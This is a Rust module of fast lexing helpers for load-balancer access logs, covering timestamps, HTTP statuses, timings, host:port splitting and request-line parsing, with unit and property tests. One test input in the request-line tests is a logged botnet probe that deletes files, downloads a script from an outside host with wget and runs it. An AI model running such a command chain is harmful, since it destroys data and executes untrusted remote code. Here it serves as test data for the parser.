//! Small lexing helpers shared by the parsers: hand-written because they sit on the hot path
//! (no regex, no allocation, no calendar library).

use crate::record::{Micros, days_from_civil};
use std::borrow::Cow;
use std::cell::Cell;
use std::net::IpAddr;

/// `-` and the empty string mean "absent" in every LB format.
#[inline]
pub fn dash(s: &str) -> Option<&str> {
    if s.is_empty() || s == "-" {
        None
    } else {
        Some(s)
    }
}

#[inline]
pub fn dash_cow(s: &str) -> Option<Cow<'_, str>> {
    dash(s).map(Cow::Borrowed)
}

/// Unsigned decimal; `None` for `-`, empty, signs or anything else.
#[inline]
pub fn uint(s: impl AsRef<[u8]>) -> Option<u64> {
    let b = s.as_ref();
    if b.is_empty() || b.len() > 19 {
        return None;
    }
    let mut v: u64 = 0;
    for &c in b {
        let d = c.wrapping_sub(b'0');
        if d > 9 {
            return None;
        }
        v = v * 10 + u64::from(d);
    }
    Some(v)
}

/// An HTTP status 100..=999 (CloudFront logs `000` for aborted requests: that is `None`).
#[inline]
pub fn status(s: impl AsRef<[u8]>) -> Option<u16> {
    // Three digits, the first not 0: two per ALB line, so no loop.
    let &[a, b, c] = s.as_ref() else {
        return None;
    };
    let [a, b, c] = [a, b, c].map(|x| u16::from(x.wrapping_sub(b'0')));
    (a != 0 && a <= 9 && b <= 9 && c <= 9).then_some(a * 100 + b * 10 + c)
}

/// Seconds with an optional fraction (`0.000043`, `1.5`, `12`) to microseconds.
/// Negative values (ALB's `-1`: no response) and `-` are `None`.
#[inline]
pub fn secs_to_us(s: impl AsRef<[u8]>) -> Option<u64> {
    let b = s.as_ref();
    // `0.000`, as ALB writes its timings: no loops.
    if let &[s @ b'0'..=b'9', b'.', f0, f1, f2] = b {
        let (f0, f1, f2) = (
            f0.wrapping_sub(b'0'),
            f1.wrapping_sub(b'0'),
            f2.wrapping_sub(b'0'),
        );
        if f0 <= 9 && f1 <= 9 && f2 <= 9 {
            let ms = u64::from(f0) * 100 + u64::from(f1) * 10 + u64::from(f2);
            return Some(u64::from(s - b'0') * 1_000_000 + ms * 1000);
        }
        return None;
    }
    if b.is_empty() || b[0] == b'-' {
        return None;
    }
    // Short field: a plain scan beats a memchr call here (hot path: three per ALB line).
    let (int, frac) = match b.iter().position(|&c| c == b'.') {
        Some(i) => (&b[..i], &b[i + 1..]),
        None => (b, &b[..0]),
    };
    if int.is_empty() && frac.is_empty() {
        return None;
    }
    let mut secs: u64 = 0;
    for &c in int {
        let d = c.wrapping_sub(b'0');
        if d > 9 || secs > 1 << 40 {
            return None;
        }
        secs = secs * 10 + u64::from(d);
    }
    let mut us: u64 = 0;
    let mut scale = 100_000u64;
    for &c in frac {
        let d = c.wrapping_sub(b'0');
        if d > 9 {
            return None;
        }
        us += u64::from(d) * scale;
        scale /= 10;
    }
    Some(secs * 1_000_000 + us)
}

#[inline]
fn digits(b: &[u8]) -> Option<u32> {
    let mut v = 0u32;
    if b.is_empty() {
        return None;
    }
    for &c in b {
        let d = c.wrapping_sub(b'0');
        if d > 9 {
            return None;
        }
        v = v * 10 + u32::from(d);
    }
    Some(v)
}

/// Build micros from civil fields, checking ranges.
#[inline]
pub fn civil_to_micros(
    y: i64,
    mo: u32,
    d: u32,
    h: u32,
    mi: u32,
    s: u32,
    us: u32,
) -> Option<Micros> {
    if !(1..=12).contains(&mo) || !(1..=31).contains(&d) || h > 23 || mi > 59 || s > 60 {
        return None;
    }
    let days = days_from_civil(y, mo, d);
    Some(
        ((days * 86_400 + i64::from(h) * 3600 + i64::from(mi) * 60 + i64::from(s)) * 1_000_000)
            + i64::from(us),
    )
}

/// Fraction digits after a `.`: returns (microseconds, bytes consumed). Extra digits beyond
/// six are read and dropped (Azure writes seven or nine).
#[inline]
fn fraction(b: &[u8]) -> (u32, usize) {
    let mut us = 0u32;
    let mut n = 0;
    while n < b.len() && b[n].is_ascii_digit() {
        if n < 6 {
            us = us * 10 + u32::from(b[n] - b'0');
        }
        n += 1;
    }
    let mut k = n;
    while k < 6 {
        us *= 10;
        k += 1;
    }
    (us, n)
}

/// ISO 8601 / RFC 3339: `2018-07-02T22:23:00.186641Z`, `2018-07-02 22:23:00`, with `Z`,
/// `±hh:mm`, `±hhmm` or no zone (read as UTC), fractions of any length.
pub fn iso8601(s: impl AsRef<[u8]>) -> Option<Micros> {
    let b = s.as_ref();
    if b.len() < 19 {
        return None;
    }
    // Consecutive lines share their minute: reuse the last `YYYY-MM-DDTHH:MM` read on this
    // thread (it was checked then), and read only the seconds, fraction and zone.
    let prefix = u128::from_le_bytes(b[..16].try_into().expect("16 bytes"));
    let (last, base) = LAST_MINUTE.with(Cell::get);
    if prefix == last && base != Micros::MIN {
        return seconds_and_zone(&b[16..]).map(|t| base + t);
    }
    let base = minute_start(b)?;
    LAST_MINUTE.with(|c| c.set((prefix, base)));
    Some(base + seconds_and_zone(&b[16..])?)
}

thread_local! {
    /// The last minute prefix [`iso8601`] read, with its start in micros (MIN: none yet).
    static LAST_MINUTE: Cell<(u128, Micros)> = const { Cell::new((0, Micros::MIN)) };
}

/// `YYYY-MM-DDTHH:MM` (or a space for the `T`) → the minute's start in micros, UTC.
fn minute_start(b: &[u8]) -> Option<Micros> {
    if b[4] != b'-' || b[7] != b'-' || !(b[10] == b'T' || b[10] == b' ') || b[13] != b':' {
        return None;
    }
    let y = digits(&b[0..4])?;
    let mo = digits(&b[5..7])?;
    let d = digits(&b[8..10])?;
    let h = digits(&b[11..13])?;
    let mi = digits(&b[14..16])?;
    civil_to_micros(i64::from(y), mo, d, h, mi, 0, 0)
}

/// `:SS[.ffffff][zone]` → micros past the minute, zone offset applied.
#[inline]
fn seconds_and_zone(b: &[u8]) -> Option<Micros> {
    // `:SS.ffffffZ`, as ALB writes every time: the eight digits as one word (SWAR), no
    // loops, so the code does not hinge on what the optimiser makes of an iterator.
    if let &[b':', s0, s1, b'.', f0, f1, f2, f3, f4, f5, b'Z'] = b {
        let v = u64::from_le_bytes([s0, s1, f0, f1, f2, f3, f4, f5]);
        const HI: u64 = 0xF0F0_F0F0_F0F0_F0F0;
        const ZEROS: u64 = 0x3030_3030_3030_3030;
        // Every byte is 0x30..=0x3F, and adding 6 keeps it there: an ASCII digit.
        if v & HI == ZEROS && v.wrapping_add(0x0606_0606_0606_0606) & HI == ZEROS {
            // Pairs, then quads, then all eight (first digit in the low byte).
            let d = v - ZEROS;
            let d = (d.wrapping_mul(10) + (d >> 8)) & 0x00FF_00FF_00FF_00FF;
            let d = (d.wrapping_mul(100) + (d >> 16)) & 0x0000_FFFF_0000_FFFF;
            let n = (d.wrapping_mul(10_000) + (d >> 32)) & 0xFFFF_FFFF;
            // `SSffffff` is the time in microseconds; seconds 60 (a leap second) at most.
            if n < 61_000_000 {
                return Some(n as Micros);
            }
        }
    }
    seconds_and_zone_any(b)
}

/// [`seconds_and_zone`] for every spelling.
fn seconds_and_zone_any(b: &[u8]) -> Option<Micros> {
    let [b':', s0, s1, rest @ ..] = b else {
        return None;
    };
    let sec = digits(&[*s0, *s1])?;
    if sec > 60 {
        return None;
    }
    let mut rest = rest;
    let mut us = 0;
    if let [b'.' | b',', tail @ ..] = rest {
        let (f, n) = fraction(tail);
        if n == 0 {
            return None;
        }
        us = f;
        rest = &tail[n..];
    }
    Some(i64::from(sec) * 1_000_000 + i64::from(us) - zone_offset(rest)? * 1_000_000)
}

/// `Z`, `z`, empty, `+hh:mm`, `+hhmm`, `+hh` → offset east of UTC in seconds.
#[inline]
pub fn zone_offset(rest: &[u8]) -> Option<i64> {
    let rest = rest.trim_ascii();
    match rest {
        [] | [b'Z' | b'z'] => Some(0),
        [sign @ (b'+' | b'-'), tail @ ..] => {
            let (h, m) = match tail {
                [a, b, b':', c, d] | [a, b, c, d] => (digits(&[*a, *b])?, digits(&[*c, *d])?),
                [a, b] => (digits(&[*a, *b])?, 0),
                _ => return None,
            };
            if h > 23 || m > 59 {
                return None;
            }
            let off = i64::from(h * 3600 + m * 60);
            Some(if *sign == b'-' { -off } else { off })
        }
        _ => None,
    }
}

/// Month abbreviation (`Jan`…`Dec`, any case) to 1..=12.
#[inline]
pub fn month_abbrev(b: &[u8]) -> Option<u32> {
    if b.len() != 3 {
        return None;
    }
    let k = [
        b[0].to_ascii_lowercase(),
        b[1].to_ascii_lowercase(),
        b[2].to_ascii_lowercase(),
    ];
    Some(match &k {
        b"jan" => 1,
        b"feb" => 2,
        b"mar" => 3,
        b"apr" => 4,
        b"may" => 5,
        b"jun" => 6,
        b"jul" => 7,
        b"aug" => 8,
        b"sep" => 9,
        b"oct" => 10,
        b"nov" => 11,
        b"dec" => 12,
        _ => return None,
    })
}

/// Common Log Format time: `10/Oct/2000:13:55:36 -0700` (without the brackets).
pub fn clf_time(s: &str) -> Option<Micros> {
    let b = s.as_bytes();
    if b.len() < 20 || b[2] != b'/' || b[6] != b'/' || b[11] != b':' {
        return None;
    }
    let d = digits(&b[0..2])?;
    let mo = month_abbrev(&b[3..6])?;
    let y = digits(&b[7..11])?;
    let h = digits(&b[12..14])?;
    let mi = digits(&b[15..17])?;
    let sec = digits(&b[18..20])?;
    let mut rest = &b[20..];
    let mut us = 0;
    if let [b'.', tail @ ..] = rest {
        let (f, n) = fraction(tail);
        us = f;
        rest = &tail[n..];
    }
    let t = civil_to_micros(i64::from(y), mo, d, h, mi, sec, us)?;
    Some(t - zone_offset(rest)? * 1_000_000)
}

/// Split `addr:port` where `addr` may be IPv4, bracketed IPv6 `[::1]:80`, or IPv6 written
/// with the port appended and no brackets (ALB: `2601:…:6bbc:50599`), or a bare address.
/// Returns the address text and the port.
pub fn split_host_port(s: &str) -> (&str, Option<u16>) {
    if let Some(rest) = s.strip_prefix('[') {
        if let Some(end) = rest.find(']') {
            let port = rest[end + 1..]
                .strip_prefix(':')
                .and_then(|p| p.parse().ok());
            return (&rest[..end], port);
        }
        return (s, None);
    }
    match s.rfind(':') {
        None => (s, None),
        Some(i) => {
            let (host, port) = (&s[..i], &s[i + 1..]);
            let colons = memchr::memchr_iter(b':', s.as_bytes()).count();
            if colons == 1 {
                return match port.parse() {
                    Ok(p) => (host, Some(p)),
                    Err(_) => (s, None),
                };
            }
            // Several colons: IPv6. If the whole thing is an address, there is no port.
            if s.parse::<std::net::Ipv6Addr>().is_ok() {
                return (s, None);
            }
            match (host.parse::<std::net::Ipv6Addr>(), port.parse()) {
                (Ok(_), Ok(p)) => (host, Some(p)),
                _ => (s, None),
            }
        }
    }
}

/// Client address text to an IP when it is one (IPv4 fast path).
#[inline]
pub fn ip(s: &str) -> Option<IpAddr> {
    s.parse().ok()
}

/// The parts of an HTTP request line `METHOD target PROTOCOL`, where the target may be an
/// absolute URL (ALB/ELB: `http://host:80/path?q`) or origin-form (`/path?q`).
#[derive(Debug, Default, PartialEq, Eq, Clone, Copy)]
pub struct RequestLine<'a> {
    pub method: Option<&'a str>,
    pub scheme: Option<&'a str>,
    pub host: Option<&'a str>,
    pub path: Option<&'a str>,
    pub query: Option<&'a str>,
    pub protocol: Option<&'a str>,
}

/// Split a request line. Tolerates `- - -`, `- http://host:80- -` (ALB malformed), missing
/// protocol, and spaces inside the URL (the protocol is the last token when it looks like one).
pub fn request_line(s: &str) -> RequestLine<'_> {
    // Byte searches (`crate::bytes`) rather than `str::find(char)`: this runs on every
    // request, and the generic char searchers cost more than the rest of the split. The bytes
    // searched for are ASCII, so every cut is on a char boundary.
    let s = s.trim_matches(' ');
    let mut out = RequestLine::default();
    if s.is_empty() || s == "-" {
        return out;
    }
    // The method and the protocol are a few bytes long: a plain scan finds their spaces
    // sooner than a memchr call is set up.
    let (method, rest) = match s.bytes().position(|c| c == b' ') {
        Some(i) => (&s[..i], s[i + 1..].trim_start_matches(' ')),
        None => (s, ""),
    };
    out.method = dash(method);
    let (target, proto) = match rest.bytes().rposition(|c| c == b' ') {
        Some(i) if looks_like_protocol(&rest[i + 1..]) || &rest[i + 1..] == "-" => {
            (rest[..i].trim_end_matches(' '), &rest[i + 1..])
        }
        _ => (rest, ""),
    };
    out.protocol = dash(proto);
    let target = match dash(target) {
        Some(t) => t,
        None => return out,
    };
    let (url, query) = match crate::bytes::find(b'?', target.as_bytes()) {
        Some(i) => (&target[..i], Some(&target[i + 1..])),
        None => (target, None),
    };
    out.query = query;
    // Only the first bytes can hold a scheme: no substring searcher on the hot path.
    let u = url.as_bytes();
    let sep = (0..u.len().saturating_sub(2).min(12))
        .find(|&i| u[i] == b':' && u[i + 1] == b'/' && u[i + 2] == b'/');
    if let Some(i) = sep.filter(|&i| i > 0 && i < 10) {
        out.scheme = Some(&url[..i]);
        let after = &url[i + 3..];
        match crate::bytes::find(b'/', after.as_bytes()) {
            Some(j) => {
                out.host = dash(&after[..j]);
                out.path = Some(&after[j..]);
            }
            None => {
                // `http://host:80-` (ALB malformed request): host without a path.
                out.host = dash(after.trim_end_matches('-'));
            }
        }
    } else {
        out.path = Some(url);
    }
    out
}

#[inline]
fn looks_like_protocol(s: &str) -> bool {
    let b = s.as_bytes();
    b.len() >= 5 && b[..5].eq_ignore_ascii_case(b"HTTP/")
}

/// Strip the port from an absolute-URL host (`example.com:443` → `example.com`), keeping
/// bracketed IPv6 intact.
pub fn host_without_port(h: &str) -> &str {
    if h.starts_with('[') {
        return h.find(']').map_or(h, |i| &h[..=i]);
    }
    match h.rfind(':') {
        Some(i) if h[i + 1..].bytes().all(|c| c.is_ascii_digit()) && !h[..i].contains(':') => {
            &h[..i]
        }
        _ => h,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn iso() {
        assert_eq!(iso8601("1970-01-01T00:00:00Z"), Some(0));
        assert_eq!(iso8601("1970-01-01T00:00:01.5Z"), Some(1_500_000));
        assert_eq!(iso8601("1970-01-01T01:00:00+01:00"), Some(0));
        assert_eq!(iso8601("1970-01-01 00:00:00"), Some(0));
        assert_eq!(iso8601("1970-01-01T00:00:00.1234567Z"), Some(123_456));
        assert_eq!(
            iso8601("2018-07-02T22:23:00.186641Z"),
            Some(1_530_570_180_186_641)
        );
        assert_eq!(iso8601("2018-13-02T22:23:00Z"), None);
        assert_eq!(iso8601("garbage-that-is-long-enough"), None);
        assert_eq!(iso8601("2018-07-02T22:23:00.Z"), None);
    }

    #[test]
    fn clf() {
        assert_eq!(clf_time("01/Jan/1970:01:00:00 +0100"), Some(0));
        assert_eq!(
            clf_time("10/Oct/2000:13:55:36 -0700"),
            Some(971_211_336_000_000)
        );
        assert_eq!(clf_time("10/Foo/2000:13:55:36 -0700"), None);
    }

    #[test]
    fn secs() {
        assert_eq!(secs_to_us("0.000043"), Some(43));
        assert_eq!(secs_to_us("1.5"), Some(1_500_000));
        assert_eq!(secs_to_us("12"), Some(12_000_000));
        assert_eq!(secs_to_us("-1"), None);
        assert_eq!(secs_to_us("-"), None);
        assert_eq!(secs_to_us("1.2.3"), None);
        assert_eq!(secs_to_us("0.092"), Some(92_000));
        assert_eq!(secs_to_us("0.0x2"), None);
        assert_eq!(secs_to_us("x.000"), None);
    }

    #[test]
    fn host_port() {
        assert_eq!(
            split_host_port("192.168.131.39:2817"),
            ("192.168.131.39", Some(2817))
        );
        assert_eq!(split_host_port("[::1]:80"), ("::1", Some(80)));
        assert_eq!(
            split_host_port("2601:6bbc:c529:6::face:ed83:f46:50599"),
            ("2601:6bbc:c529:6::face:ed83:f46", Some(50599))
        );
        assert_eq!(split_host_port("::1"), ("::1", None));
        assert_eq!(split_host_port("10.0.0.1"), ("10.0.0.1", None));
        assert_eq!(split_host_port("host"), ("host", None));
    }

    #[test]
    fn request_lines() {
        let r = request_line("GET http://www.example.com:80/a/b?x=1 HTTP/1.1");
        assert_eq!(r.method, Some("GET"));
        assert_eq!(r.scheme, Some("http"));
        assert_eq!(r.host, Some("www.example.com:80"));
        assert_eq!(r.path, Some("/a/b"));
        assert_eq!(r.query, Some("x=1"));
        assert_eq!(r.protocol, Some("HTTP/1.1"));
        let r = request_line("- http://www.example.com:80- -");
        assert_eq!(r.method, None);
        assert_eq!(r.host, Some("www.example.com:80"));
        assert_eq!(r.path, None);
        assert_eq!(r.protocol, None);
        assert_eq!(request_line("- - - "), RequestLine::default());
        let r = request_line(
            "GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tk/jaws;sh HTTP/1.1",
        );
        assert_eq!(r.path, Some("/shell"));
        assert_eq!(r.query, Some("cd+/tmp;rm+-rf+*;wget+ a.tk/jaws;sh"));
        let r = request_line("GET /index.html");
        assert_eq!(r.path, Some("/index.html"));
        assert_eq!(r.protocol, None);
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(2048))]
        #[test]
        fn seconds_fast_path_agrees(s in ":[0-9:;/?.Z]{2}[.,Z][0-9a./:?]{6}[Z+z]") {
            proptest::prop_assert_eq!(
                seconds_and_zone(s.as_bytes()),
                seconds_and_zone_any(s.as_bytes())
            );
        }
    }

    #[test]
    fn statuses() {
        // The definition: a 3-digit number in 100..=999.
        let reference = |s: &str| match uint(s) {
            Some(v @ 100..=999) if s.len() == 3 => Some(v as u16),
            _ => None,
        };
        for s in [
            "200", "100", "999", "099", "000", "20", "2000", "-", "", "2a0", "20 ", "+20",
        ] {
            assert_eq!(status(s), reference(s), "{s:?}");
        }
        for v in 0..1000 {
            let s = format!("{v:03}");
            assert_eq!(status(&s), reference(&s), "{s}");
        }
        assert_eq!(status("503"), Some(503));
    }

    #[test]
    fn seconds_fast_path_values() {
        assert_eq!(seconds_and_zone(b":07.000123Z"), Some(7_000_123));
        assert_eq!(seconds_and_zone(b":60.999999Z"), Some(60_999_999));
        assert_eq!(seconds_and_zone(b":61.000000Z"), None);
        assert_eq!(seconds_and_zone(b":0a.000000Z"), None);
        // Every byte value in every digit place, and every two-digit second, agree with the
        // general reader (the fast path checks digits a word at a time).
        let digit_places = [1, 2, 4, 5, 6, 7, 8, 9];
        for place in digit_places {
            for byte in 0..=255u8 {
                let mut b = *b":42.123456Z";
                b[place] = byte;
                assert_eq!(seconds_and_zone(&b), seconds_and_zone_any(&b), "{b:?}");
            }
        }
        for sec in 0..100 {
            let b = format!(":{sec:02}.987654Z");
            assert_eq!(
                seconds_and_zone(b.as_bytes()),
                seconds_and_zone_any(b.as_bytes()),
                "{b}"
            );
        }
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(512))]
        /// Any line, multibyte text included: no panic, and a well-formed request line's
        /// pieces are exactly its parts.
        #[test]
        fn request_line_pieces(
            m in "[A-Z]{1,7}",
            scheme in proptest::option::of("https?"),
            host in "[a-zé0-9.]{1,12}(:[0-9]{1,5})?",
            path in "/([a-zé0-9/%;+ -]{0,30}[a-z])?",
            query in proptest::option::of("([a-zé0-9=&/?% ]{0,20}[a-z])?"),
            junk in "\\PC{0,40}",
        ) {
            let _ = request_line(&junk);
            let url = match &scheme {
                Some(sc) => format!("{sc}://{host}{path}"),
                None => path.clone(),
            };
            let target = match &query {
                Some(q) => format!("{url}?{q}"),
                None => url,
            };
            let line = format!("{m} {target} HTTP/1.1");
            let r = request_line(&line);
            proptest::prop_assert_eq!(r.method, Some(m.as_str()));
            proptest::prop_assert_eq!(r.protocol, Some("HTTP/1.1"));
            proptest::prop_assert_eq!(r.query, query.as_deref());
            proptest::prop_assert_eq!(r.path, Some(path.as_str()));
            proptest::prop_assert_eq!(r.host, scheme.as_ref().map(|_| host.as_str()));
        }

        /// Timings read by the `d.ddd` shortcut equal the same value written longer.
        #[test]
        fn short_timings_match_the_general_reader(d in 0u64..10, ms in 0u64..1000) {
            let us = d * 1_000_000 + ms * 1000;
            proptest::prop_assert_eq!(secs_to_us(format!("{d}.{ms:03}")), Some(us));
            proptest::prop_assert_eq!(secs_to_us(format!("{d}.{ms:03}000")), Some(us));
        }

        /// Whatever the minute read before, a time reads the same as on its own (the
        /// minute cache only saves work).
        #[test]
        fn cached_minutes_read_like_fresh_ones(
            seq in proptest::collection::vec((0usize..6, 0u32..62, 0u32..1_000_000, 0usize..4), 1..40)
        ) {
            const MINUTES: [&str; 6] = [
                "2026-11-01T00:00", "2026-11-01T00:01", "2026-11-01 00:01",
                "2026-13-01T00:00", "2026-11-01T00:0x", "1999-12-31T23:59",
            ];
            const ZONES: [&str; 4] = ["Z", "", "+01:00", "Q"];
            for (m, sec, us, z) in seq {
                let s = format!("{}:{sec:02}.{us:06}{}", MINUTES[m], ZONES[z]);
                let b = s.as_bytes();
                let fresh = minute_start(b).and_then(|base| Some(base + seconds_and_zone(&b[16..])?));
                proptest::prop_assert_eq!(iso8601(&s), fresh, "{}", s);
            }
        }
    }
}
